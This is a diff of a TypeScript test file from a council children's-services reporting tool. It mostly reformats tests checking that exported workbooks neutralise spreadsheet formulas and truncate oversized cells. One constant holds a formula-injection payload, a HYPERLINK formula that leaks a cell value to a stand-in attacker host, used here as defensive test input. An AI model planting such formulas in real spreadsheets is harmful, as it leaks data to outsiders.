@@ -12,7 +12,17 @@ import { addTableSheet, newWorkbook } from '../reports/lib/xlsx.js';
 import { tempDir, writeCsv } from './helpers/tmp.js';
 
 const LINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Assessment Team 1")';
-const HEADER = ['Contact ID', 'Child ID', 'Contact Date', 'Contact Source', 'Receiving Team', 'Open Case', 'Domestic Abuse Notification', 'Decision Date', 'Contact Outcome'];
+const HEADER = [
+  'Contact ID',
+  'Child ID',
+  'Contact Date',
+  'Contact Source',
+  'Receiving Team',
+  'Open Case',
+  'Domestic Abuse Notification',
+  'Decision Date',
+  'Contact Outcome',
+];
 
 /** Every cell of every sheet as exceljs reads it back, and whether any is a formula or a hyperlink (as Excel would see it). */
 async function readBack(file: string): Promise<{ cells: ExcelJS.Cell[]; formulas: boolean }> {
@@ -26,9 +36,34 @@ async function readBack(file: string): Promise<{ cells: ExcelJS.Cell[]; formulas
 
 describe('workbooks the project writes', () => {
   it('print a formula from an export as inert text in an appendix table', async () => {
-    const meta: AppendixMeta = { council: 'Demo Borough Council', directorate: "Children's Services", committee: 'Scrutiny', meetingDate: null, appendixNumber: '3', title: 'Complaints', period: '2019-20', dataAsAt: '2020-04-01T00:00:00Z', source: 'test', runId: 'r1', generatedAt: '2020-04-02T00:00:00Z', variant: 'public' };
+    const meta: AppendixMeta = {
+      council: 'Demo Borough Council',
+      directorate: "Children's Services",
+      committee: 'Scrutiny',
+      meetingDate: null,
+      appendixNumber: '3',
+      title: 'Complaints',
+      period: '2019-20',
+      dataAsAt: '2020-04-01T00:00:00Z',
+      source: 'test',
+      runId: 'r1',
+      generatedAt: '2020-04-02T00:00:00Z',
+      variant: 'public',
+    };
     const wb = newWorkbook(meta);
-    addTableSheet(wb, meta, { sheet: 'Compliments', title: 'Compliments by team', columns: [{ header: 'Team', key: 'team', width: 30 }, { header: 'Compliments', key: 'n', width: 12, numFmt: '#,##0' }], rows: [{ team: LINK, n: 7 }, { team: 'MASH', n: 12 }, { team: '+87%', n: 1 }] });
+    addTableSheet(wb, meta, {
+      sheet: 'Compliments',
+      title: 'Compliments by team',
+      columns: [
+        { header: 'Team', key: 'team', width: 30 },
+        { header: 'Compliments', key: 'n', width: 12, numFmt: '#,##0' },
+      ],
+      rows: [
+        { team: LINK, n: 7 },
+        { team: 'MASH', n: 12 },
+        { team: '+87%', n: 1 },
+      ],
+    });
     const file = path.join(tempDir('xlsx-safe'), 'a.xlsx');
     await wb.xlsx.writeFile(file);
     const { cells, formulas } = await readBack(file);
@@ -52,7 +87,11 @@ describe('workbooks the project writes', () => {
     ]);
     const out = path.join(dir, 'rejects.xlsx');
     await withWarehouse(path.join(dir, 'w.duckdb'), {}, async (db) => {
-      const summary = await extract(db, { inputDir: path.join(dir, 'in'), runId: '20260101T000000Z-safe', log: silentLogger() });
+      const summary = await extract(db, {
+        inputDir: path.join(dir, 'in'),
+        runId: '20260101T000000Z-safe',
+        log: silentLogger(),
+      });
       expect(summary.files[0]).toMatchObject({ landed: 1, rejected: 2 });
       const [kept] = await db.json<{ n: number }>('SELECT max(length(raw_value))::INTEGER AS n FROM raw._rejects');
       expect(kept!.n).toBe(huge.length); // the whole value stays in the warehouse
@@ -62,7 +101,9 @@ describe('workbooks the project writes', () => {
     expect(formulas).toBe(false);
     expect(Math.max(...cells.map((c) => String(c.value ?? '').length))).toBe(32_767);
     const cut = cells.find((c) => String(c.value).startsWith('xxxx'))!;
-    expect(String(cut.value)).toMatch(/ … \[cut to Excel's 32,767-character cell limit: 2,097,152 characters in all\]$/);
+    expect(String(cut.value)).toMatch(
+      / … \[cut to Excel's 32,767-character cell limit: 2,097,152 characters in all\]$/,
+    );
     const link = cells.find((c) => String(c.value).startsWith(`'=HYPERLINK`))!;
     expect(link.type).toBe(ExcelJS.ValueType.String);
     expect(link.value).toBe(`'${LINK}`);
